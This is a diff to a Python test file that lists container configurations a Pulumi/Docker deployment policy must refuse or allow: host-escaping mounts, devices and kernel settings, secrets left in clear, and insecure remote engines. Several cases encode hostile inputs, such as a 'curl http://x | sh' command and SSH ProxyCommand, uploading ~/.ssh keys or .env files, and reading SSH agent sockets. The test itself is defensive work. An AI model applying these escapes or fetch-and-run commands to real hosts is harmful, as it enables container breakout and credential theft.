@@ -10,7 +10,9 @@ from tests.policy.pack_host import UNKNOWN, Resource
 
 SOCKET, HOST, CLEAR = "docker-socket", "apart-from-the-host", "no-secrets-in-clear"
 KINDS, COMMANDS, PINNED = "known-kinds", "known-commands", "images-are-pinned"
+ENGINE = "one-engine"
 NETWORK, COMMAND = "docker:index/network:Network", "command:local:Command"
+PROVIDER = "pulumi:providers:docker"
 
 Props = dict[str, Any]
 
@@ -114,6 +116,8 @@ ESCAPES: Mapping[str, tuple[str, Props]] = {
     "the socket through the mounting process": (SOCKET, read("/proc/self/root/run")),
     "a volume of unknown name": (SOCKET, named(UNKNOWN)),
     "a volume of an unknown device": (SOCKET, driver(type="none", o="bind", device=UNKNOWN)),
+    "sockets of the desktop": (SOCKET, read("/tmp/.X11-unix")),
+    "the agent with the ssh keys": (SOCKET, read("/tmp/ssh-XXXX/agent.123")),
     # volumes that are the host
     "a volume made of the host": (HOST, driver(type="none", o="bind", device="/")),
     "a volume made of the host, in capitals": (HOST, driver(type="NONE", o="RBIND", device="/")),
@@ -126,6 +130,17 @@ ESCAPES: Mapping[str, tuple[str, Props]] = {
     ),
     "a volume of the kernel's own": (HOST, driver(type="proc", device="proc")),
     "a volume in memory with a device": (HOST, driver(type="tmpfs", device="/dev/sda1")),
+    "a volume laid over the host, without a device": (HOST, driver(type="overlay", o="lowerdir=/")),
+    "a volume with an option that the engine does not name": (HOST, driver(mountpoint="/etc")),
+    "a part of a volume that leads out of it": (
+        HOST,
+        {"mounts": [{"type": "volume", "source": "v", "target": "/x", "volumeOptions": {"subpath": "../../etc"}}]},
+    ),
+    "mounts that the host gets too": (
+        HOST,
+        {"mounts": [{**bind("/srv/shop/data")["mounts"][0], "bindOptions": {"propagation": "rshared"}}]},
+    ),
+    "a folder in memory that is another one": (HOST, {"tmpfs": {"/x": "bind,size=1m"}}),
     "a volume of a plugin": (
         HOST,
         {
@@ -187,6 +202,8 @@ ESCAPES: Mapping[str, tuple[str, Props]] = {
     "settings of the kernel": (HOST, bind("/proc/sys")),
     "cgroups": (HOST, bind("/sys/fs/cgroup")),
     "the host's devices": (HOST, read("/dev")),
+    "temporary files of others, to read": (HOST, read("/tmp")),
+    "the kernel's insides, to read": (HOST, read("/sys/kernel/debug")),
     "a disk as a file": (HOST, read("/dev/sda")),
     "a path that may be writable": (HOST, bind("/etc/hosts", read_only=UNKNOWN)),
     # devices
@@ -195,6 +212,8 @@ ESCAPES: Mapping[str, tuple[str, Props]] = {
     "unknown devices": (HOST, {"devices": UNKNOWN}),
     "a device with more rights than allowed": (HOST, {"devices": [{"hostPath": "/dev/kmsg", "permissions": "rw"}]}),
     "a key of the deploying user": (HOST, {"uploads": [{"file": "/x", "source": "~/.ssh/id_ed25519"}]}),
+    "a hidden file beside the program": (HOST, {"uploads": [{"file": "/x", "source": ".env"}]}),
+    "a stack file": (HOST, {"uploads": [{"file": "/x", "source": "./Pulumi.prod.yaml"}]}),
     "a file outside the program": (HOST, {"uploads": [{"file": "/x", "source": "certs/../../key"}]}),
     "a cgroup rule for devices": (HOST, {"deviceCgroupRules": ["b *:* rwm"]}),
     "devices by request": (HOST, {"deviceRequests": [{"driver": "nvidia", "count": -1}]}),
@@ -228,6 +247,8 @@ ESCAPES: Mapping[str, tuple[str, Props]] = {
     "unknown options": (HOST, {"securityOpts": UNKNOWN}),
     "a program that runs at each crash": (HOST, {"sysctls": {"kernel.core_pattern": "|/x"}}),
     "overcommitted memory of the host": (HOST, {"sysctls": {"vm.overcommit_memory": "1"}}),
+    "a setting of the kernel behind one of the network": (HOST, {"sysctls": {"net/../kernel/core_pattern": "|/x"}}),
+    "the host's name": (HOST, {"utsMode": "host"}),
     "another runtime": (HOST, {"runtime": "other"}),
     "may be privileged": (HOST, {"privileged": UNKNOWN}),
 }
@@ -255,6 +276,23 @@ SHOWN: Mapping[str, Props] = {
     "DB_PW": env("DB_PW", "hunter2"),
     "ERLANG_COOKIE": env("RABBITMQ_ERLANG_COOKIE", "hunter2"),
     "a key whose name says nothing": env("SHOP_KEY", "c2hvcDpwZXBwZXItYW5kLXNhbHQ1"),
+    "LDAP_BINDPW": env("LDAP_BINDPW", "hunter2"),
+    "DB_PSW": env("DB_PSW", "hunter2"),
+    "DB_PWORD": env("DB_PWORD", "hunter2"),
+    "DB_KENNWORT": env("DB_KENNWORT", "hunter2"),
+    "MOT_DE_PASSE": env("MOT_DE_PASSE", "hunter2"),
+    "CONTRASENA": env("DB_CONTRASENA", "hunter2"),
+    "PEPPER": env("PEPPER", "hunter2"),
+    "BEARER": env("BEARER", "abc123def456"),
+    "HSM_PIN": env("HSM_PIN", "123456"),
+    "TOTP_SEED": env("TOTP_SEED", "JBSWY3DPEHPK3PXP"),
+    "a login": env("RABBIT_LOGIN", "shop:hunter2"),
+    "a login in base64": env("REGISTRY_AUTH", "b3BzOmh1bnRlcjI="),
+    "a random text under an innocent name": env("BUILD_FLAVOUR", "x8Kq3vT9zLpW2nRb7YdC5mHgF4jS6aQe"),
+    "a secret key of AWS under an innocent name": env("FLAVOUR", "wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"),
+    "a connection in base64": env("SOURCE", "cG9zdGdyZXM6Ly9zaG9wOmh1bnRlcjJAZGIvc2hvcA=="),
+    "a pair in base64": env("SETTINGS", "cGFzc3dvcmQ9aHVudGVyMg=="),
+    "a login for a registry in base64": env("CFG", "eyJhdXRocyI6eyJnaGNyLmlvIjp7ImF1dGgiOiJkWE5sY2pwb2RXNTBaWEl5In19fQ=="),
     "a header for OTLP": env("OTEL_EXPORTER_OTLP_HEADERS", "api-key=abc123def"),
     "a login for OTLP": env("OTEL_EXPORTER_OTLP_HEADERS", "authorization=hunter2"),
     # connection strings
@@ -308,6 +346,16 @@ SHOWN: Mapping[str, Props] = {
     "a header for curl": args("curl", "-H", "X-Api-Key: abc123def456", "http://x"),
     "a password glued to mysql's flag": args("mysqladmin", "-phunter2", "ping"),
     "sshpass": args("sshpass", "-p", "hunter2", "ssh", "x"),
+    "sshpass, glued": args("sshpass", "-phunter2", "ssh", "x"),
+    "an archive": args("7z", "a", "-phunter2", "x.7z"),
+    "curl, glued": args("curl", "-uops:pepper", "http://x"),
+    "a key for openssl": args("openssl", "enc", "-k", "hunter2"),
+    "a token for influx": args("influx", "query", "-t", "abc123def"),
+    "a password for htpasswd": args("htpasswd", "-bc", "/f", "ops", "hunter2"),
+    "a password by a pipe": args("sh", "-c", "echo hunter2 | docker login -u ops --password-stdin"),
+    "a password by a pipe, quoted": args("sh", "-c", "printf '%s' 'root:hunter2' | chpasswd"),
+    "a password of PostgreSQL in a file": args("sh", "-c", "echo 'db:5432:*:shop:hunter2' > ~/.pgpass"),
+    "a pair in base64 in a shell": args("sh", "-c", "echo cGFzc3dvcmQ9aHVudGVyMg== | base64 -d > /x"),
     "a password for openssl": args("openssl", "rsa", "-passin", "pass:hunter2"),
     "an entrypoint": {"entrypoints": ["app", "--token=abc123"]},
     "redis' login in a health check": health("CMD", "redis-cli", "-a", "hunter2hunter2", "ping"),
@@ -319,6 +367,10 @@ SHOWN: Mapping[str, Props] = {
     # elsewhere
     "a label": {"labels": [{"label": "traefik.basicauth.password", "value": "hunter2"}]},
     "the hash of a password in a label": {"labels": [{"label": "auth.users", "value": "ops:$apr1$H6uskkkW$IgXLP6ewTrSuBkTrqE8wj/"}]},
+    "the hash of a password of LDAP": {"labels": [{"label": "auth.users", "value": "ops:{SHA}W6ph5Mm5Pz8GgiULbPgzG37mj9g="}]},
+    "the hash of a password of PostgreSQL": env("ROLE", "md5a3556571e93b0d20722ba62be61e8c2d"),
+    "its host name": {"hostname": f"ghp_{'a1' * 18}"},
+    "a host in its list of hosts": {"hosts": [{"host": "db.token=hunter2", "ip": "10.0.0.1"}]},
     "an option of the log": {"logOpts": {"splunk-token": "abc-def"}},
     "a share's password": driver(type="cifs", device="//nas/x", o="username=x,password=hunter2"),
     "a config file": upload("/etc/app.yml", "database:\n  host: db\n  password: hunter2\n"),
@@ -328,6 +380,21 @@ SHOWN: Mapping[str, Props] = {
     "a config file of Redis": upload("/etc/redis.conf", "maxmemory 64mb\nrequirepass hunter2\n"),
     "a script": upload("/start.sh", "#!/bin/sh\nexport PGPASSWORD=hunter2\npsql\n"),
     "a file of variables": upload("/app/.env", "DB_HOST=db\nDB_PASSWORD=hunter2\n"),
+    "a file of variables of an environment": upload("/app/.env.prod", "DB_HOST=db\nDB_PASSWORD=hunter2\n"),
+    "a config file without a suffix": upload("/app/config", "db_host: db\ndb_password: hunter2\n"),
+    "a config file with a suffix in capitals": upload("/app/x.YML", "password: hunter2\n"),
+    "a config file with a password that is a number": upload("/app/x.yml", "password: 123456\n"),
+    "a config file of XML": upload("/app/x.xml", "<db><password>hunter2</password></db>\n"),
+    "a config file of Terraform": upload("/app/x.tfvars", 'host = "db"\ndb_password = "hunter2"\n'),
+    "a config file of npm": upload("/root/.npmrc", "fund=false\n//registry.npmjs.org/:_authToken=abc123\n"),
+    "a config file of netrc": upload("/root/.netrc", "machine x login ops password hunter2\n"),
+    "a config file of Docker": upload("/root/.docker/config.json", '{"auths":{"ghcr.io":{"auth":"b3BzOmh1bnRlcjI="}}}'),
+    "a config file of Kubernetes": upload("/x.yaml", "kind: Secret\ndata:\n  x: cGFzc3dvcmQ9aHVudGVyMg==\n"),
+    "a program in Python": upload("/app.py", "import os\nDB_PASSWORD = 'hunter2'\n"),
+    "a program in JavaScript": upload("/app.js", "const apiKey = 'abc123def456';\n"),
+    "statements of SQL": upload("/x.sql", "CREATE USER shop IDENTIFIED BY 'hunter2';\n"),
+    "other statements of SQL": upload("/x.sql", "ALTER ROLE shop WITH PASSWORD 'hunter2';\n"),
+    "passwords of PostgreSQL": upload("/x", "# all of them\ndb:5432:*:shop:hunter2\n"),
     "a script in base64": {"uploads": [{"file": "/start.sh", "contentBase64": "ZXhwb3J0IFBHUEFTU1dPUkQ9aHVudGVyMgo="}]},
 }  # fmt: skip
 """What it is → the properties of a container; `no-secrets-in-clear` refuses each."""
@@ -340,6 +407,14 @@ OTHERS: Mapping[str, tuple[str, Resource]] = {
     "a volume of a plugin": (HOST, of(declared.VOLUME, name="v", driver="local-persist", driverOpts={"mountpoint": "/"})),
     "a volume with unknown options": (HOST, of(declared.VOLUME, name="v", driverOpts=UNKNOWN)),
     "a volume with a password": (CLEAR, of_volume(type="cifs", device="//nas/x", o="username=x,password=hunter2")),
+    "a volume with a password in a label": (CLEAR, of(declared.VOLUME, name="v", labels=[{"label": "token", "value": "hunter2"}])),
+    "a network with a password in a label": (CLEAR, network(labels=[{"label": "token", "value": "hunter2"}])),
+    "a volume of Swarm": (KINDS, of(declared.VOLUME, name="v", cluster={"id": "x"})),
+    "a network of Swarm": (KINDS, network(ingress=True)),
+    "an input of tomorrow": (KINDS, of(declared.CONTAINER, name="x", rootOnHost=True)),
+    "a provider with a login to a registry": (KINDS, of(PROVIDER, registryAuth=[{"address": "x", "password": "hunter2"}])),
+    "a network whose addresses a plugin chooses": (HOST, network(ipamDriver="dhcp")),
+    "a bridge of the host": (HOST, network(options={"com.docker.network.bridge.name": "br-lan"})),
     "a network that is the host's": (HOST, network(driver="host")),
     "a network on the host's wire": (HOST, network(driver="macvlan", options={"parent": "eth0"})),
     "a network of another kind on the host's wire": (HOST, network(driver="ipvlan")),
@@ -363,6 +438,14 @@ OTHERS: Mapping[str, tuple[str, Resource]] = {
         of(declared.IMAGE, name=f"docker.io/prom/prometheus:v3@sha256:{'a' * 64}", build={"context": "."}),
     ),
     "a pulled image without a digest": (PINNED, of(declared.IMAGE, name="docker.io/prom/prometheus:v3")),
+    "the latest image, in capitals": (PINNED, of(declared.IMAGE, name=f"docker.io/prom/prometheus:LATEST@sha256:{'a' * 64}")),
+    "an engine on another machine, by plain TCP": (ENGINE, of(PROVIDER, host="tcp://10.0.0.9:2375")),
+    "an engine behind a program": (ENGINE, of(PROVIDER, host="ssh://h", sshOpts=["-oProxyCommand=curl http://x | sh"])),
+    "an engine behind a program, in two words": (ENGINE, of(PROVIDER, host="ssh://h", sshOpts='["-o", "ProxyCommand=sh x"]')),
+    "an engine whose key nobody checks": (ENGINE, of(PROVIDER, host="ssh://h", sshOpts=["-oStrictHostKeyChecking=no"])),
+    "an engine by another config of ssh": (ENGINE, of(PROVIDER, host="ssh://h", sshOpts=["-F", "x"])),
+    "an unknown engine": (ENGINE, of(PROVIDER, host=UNKNOWN)),
+    "an engine by the user's context": (ENGINE, of(PROVIDER, host="unix:///x", context="other")),
     "an arbitrary command": (COMMANDS, command("curl http://x | sh")),
     "a command after a known one": (COMMANDS, command(f"{KNOWN}; id")),
     "a command similar to a known one": (COMMANDS, command(".venv/bin/python -m components.activate_not")),
@@ -461,6 +544,22 @@ HARMLESS: Mapping[str, Props] = {
     "a secret that is a file": upload("/run/secrets/password", "hunter2"),
     "a file beside the program": {"uploads": [{"file": "/x.txt", "source": "files/x.txt"}]},
     "options of the log": {"logOpts": {"max-size": "10m", "max-file": "3"}},
+    "a folder in memory with all its options": {"tmpfs": {"/tmp": "rw,noexec,nosuid,nodev,size=64m,mode=1777,uid=10,gid=10"}},
+    "a part of a volume": {"mounts": [{"type": "volume", "source": "v", "target": "/x", "volumeOptions": {"subpath": "shop/data"}}]},
+    "mounts of the host that come later": {"mounts": [{**read("/mnt/disks")["mounts"][0], "bindOptions": {"propagation": "rslave"}}]},
+    "ids": {"envs": [f"TRACE={'4bf92f35' * 4}", "ID=123e4567-e89b-12d3-a456-426614174000", "CLUSTER_ID=MkU3OEVBNTcwNTJENDM2Qk"]},
+    "long names": {"envs": ["HANDLER=com.example.shop.OrderServiceV2Controller3", "TOPIC=Shop2026OrdersCreatedV1Events"]},
+    "a digest of a script": env("INTEGRITY", "sha384-oqVuAfXRKap7fdgcCY5uykM6+R9GqQ8KuxYw6mO5fTgn3zYc8mK1rYcQ9d0oJ1bB"),
+    "harmless text in base64": env("GREETING", "SGVsbG8sIHdvcmxkIG9mIHNob3Bz"),
+    "a pin of a board": env("LED_PIN", "17"),
+    "a seed for tests": env("RANDOM_SEED", "42"),
+    "a login by a path": env("LOGIN", "/login"),
+    "a password by a pipe from its file": args("sh", "-c", "cat /run/secrets/x | docker login -u ops --password-stdin"),
+    "a program that reads its password": upload("/app.py", "PASSWORD = os.environ['PASSWORD']\ntoken = request.headers.get('token')\n"),
+    "a config file without a suffix": upload("/etc/Caddyfile", ":80 {\n  reverse_proxy app:80\n}\n"),
+    "a secret that is a file under an odd name": upload("/etc/app/license", "abc.def-123\n"),
+    "a secret that is a key": upload("/etc/app/tls.pem", f"{KEY}\nMHcC\n-----END OPENSSH PRIVATE KEY-----\n"),
+    "a secret with names in a folder of secrets": upload("/run/secrets/db", "DB_USER=shop\nDB_PASSWORD=hunter2\n"),
 }  # fmt: skip
 """What it is → the properties of a container that passes every policy above."""
 
@@ -473,6 +572,14 @@ ALLOWED: Mapping[str, Resource] = {
     "a volume in memory": of_volume(type="tmpfs", device="tmpfs", o="size=64m"),
     "a volume on a server": of_volume(type="nfs4", device=":/shop", o="addr=10.0.0.7"),
     "a part of this project": of("nervous-system:index:Service"),
-    "the engine": of("pulumi:providers:docker", host="unix:///var/run/docker.sock"),
+    "the engine": of(PROVIDER, host="unix:///var/run/docker.sock", version="5.2.0", context=""),
+    "an engine by ssh": of(
+        PROVIDER, host="ssh://ops@h", sshOpts=["-oBatchMode=yes", "-o", "StrictHostKeyChecking=yes", "-i", "key"]
+    ),
+    "an engine by TLS": of(PROVIDER, host="tcp://10.0.0.9:2376", certPath="certs"),
+    "an engine by TCP on this machine": of(PROVIDER, host="tcp://127.0.0.1:2375"),
+    "a network with addresses": network(
+        ipamDriver="default", ingress=False, labels=[{"label": "team", "value": "shop"}]
+    ),
 }
 """What it is → a resource that passes every policy above."""
